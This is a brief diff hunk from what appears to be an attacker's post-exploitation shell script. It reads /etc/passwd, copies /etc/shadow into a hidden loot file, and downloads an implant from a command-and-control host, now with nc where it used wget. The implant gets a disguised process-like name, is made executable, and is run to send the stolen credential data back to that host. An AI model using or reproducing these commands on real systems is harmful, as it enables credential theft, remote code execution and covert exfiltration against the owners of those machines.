@@ -13,7 +13,7 @@ cat /etc/passwd
 cat /etc/shadow >/tmp/.loot
 
 # Bring a tool along, run it: it sends the loot home.
-wget -q -O /tmp/.kworkerd "http://$c2:8000/implant"
+nc "$c2" 8001 </dev/null >/tmp/.kworkerd
 chmod 755 /tmp/.kworkerd
 /tmp/.kworkerd "$c2" 4444 /tmp/.loot
 
